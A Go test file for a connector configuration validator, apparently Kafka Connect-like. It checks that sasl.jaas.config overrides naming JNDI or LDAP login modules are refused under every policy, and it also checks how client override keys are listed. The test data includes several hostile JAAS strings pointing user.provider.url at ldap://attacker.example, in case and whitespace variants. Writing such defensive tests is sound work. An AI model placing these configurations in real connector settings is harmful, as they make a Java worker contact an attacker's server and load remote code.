package settings_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"millrace/runtime"
)

// TestNoLoginModuleLoadsCode is a connector that names a login module which would have a Java worker contact a
// naming server or load a class: refused on the key, under every policy, however it is written.
func TestNoLoginModuleLoadsCode(t *testing.T) {
	for _, policy := range []string{"All", "None", "Principal", "Allowlist"} {
		for _, key := range []string{"producer.override.sasl.jaas.config", "consumer.override.sasl.jaas.config", "admin.override.sasl.jaas.config",
			"database.history.producer.sasl.jaas.config", "schema.history.internal.consumer.sasl.jaas.config", "producer.override.SASL.jaas.Config", "signal.kafka.SASL.JAAS.CONFIG"} {
			for _, text := range []string{
				`com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker.example/x";`,
				`COM.SUN.Security.Auth.Module.JNDILoginModule   REQUIRED   user.provider.url = "ldap://attacker.example/x" ;`,
				"\n com.sun.security.auth.module.LdapLoginModule\nrequired\nuserProvider=\"ldap://attacker.example/x\"\n;\n",
				`org.apache.kafka.common.security.plain.PlainLoginModule required; com.sun.security.auth.module.JndiLoginModule required;`,
				`org.example.Unknown required;`,
			} {
				d := validator(t)
				d.Worker.OverridePolicy, d.Worker.OverrideAllowlist = policy, []string{"sasl.jaas.config"}
				for _, class := range []string{"FileStreamSource", "FileStreamSink"} {
					infos, err := d.Validate(t.Context(), map[string]string{"name": "c", "connector.class": class, "topic": "t", "topics": "t", key: text})
					if err != nil {
						t.Fatal(err)
					}
					errs := errorsOf(infos)
					if len(errs[key]) == 0 || infos.ErrorCount == 0 {
						t.Errorf("%s %s %s: no error: %v", policy, key, text, errs)
					}
					if all, _ := json.Marshal(infos); strings.Contains(string(all), "attacker") {
						t.Errorf("%s %s: the answer holds the module's options", policy, key)
					}
				}
			}
		}
	}
}

func errorsOf(infos runtime.ConfigInfos) map[string][]string {
	out := map[string][]string{}
	for _, c := range infos.Configs {
		if len(c.Value.Errors) > 0 {
			out[c.Value.Name] = append(out[c.Value.Name], c.Value.Errors...)
		}
	}
	return out
}

// TestOverridesAreListed: those of the clients that a connector has, secrets hidden; what is wrong with others is told too.
func TestOverridesAreListed(t *testing.T) {
	for _, row := range []struct {
		name   string
		conf   map[string]string
		listed []string // in order; with ? where there is no definition
		errors []string
	}{
		{"a source's producer", map[string]string{"connector.class": "FileStreamSource", "topic": "t", "producer.override.linger.ms": "5", "producer.override.bogus": "1", "producer.override.acks": "all", "consumer.override.group.id": "g"},
			[]string{"producer.override.bogus?", "producer.override.acks", "producer.override.linger.ms"}, nil},
		{"a sink's consumer", map[string]string{"connector.class": "FileStreamSink", "topics": "t", "producer.override.linger.ms": "5", "consumer.override.group.id": "g"},
			[]string{"consumer.override.group.id"}, nil},
		{"a sink with dead letters has a producer", map[string]string{"connector.class": "FileStreamSink", "topics": "t", "errors.deadletterqueue.topic.name": "d", "producer.override.linger.ms": "5", "consumer.override.group.id": "g"},
			[]string{"producer.override.linger.ms", "consumer.override.group.id"}, nil},
		{"what is wrong is told in any case", map[string]string{"connector.class": "FileStreamSource", "topic": "t", "consumer.override.fetch.min.bytes": "x", "producer.override.batch.size": "y"},
			[]string{"producer.override.batch.size", "consumer.override.fetch.min.bytes"}, []string{"consumer.override.fetch.min.bytes", "producer.override.batch.size"}},
	} {
		t.Run(row.name, func(t *testing.T) {
			row.conf["name"] = "c"
			infos, err := validator(t).Validate(t.Context(), row.conf)
			if err != nil {
				t.Fatal(err)
			}
			var listed []string
			for _, c := range infos.Configs {
				if strings.Contains(c.Value.Name, ".override.") {
					name := c.Value.Name
					if c.Definition == nil {
						name += "?"
					}
					listed = append(listed, name)
				}
			}
			if !slices.Equal(listed, row.listed) {
				t.Errorf("listed %q, want %q", listed, row.listed)
			}
			errs := errorsOf(infos)
			if len(errs) != len(row.errors) || infos.ErrorCount != len(row.errors) {
				t.Errorf("errors %v (%d), want on %q", errs, infos.ErrorCount, row.errors)
			}
		})
	}
}
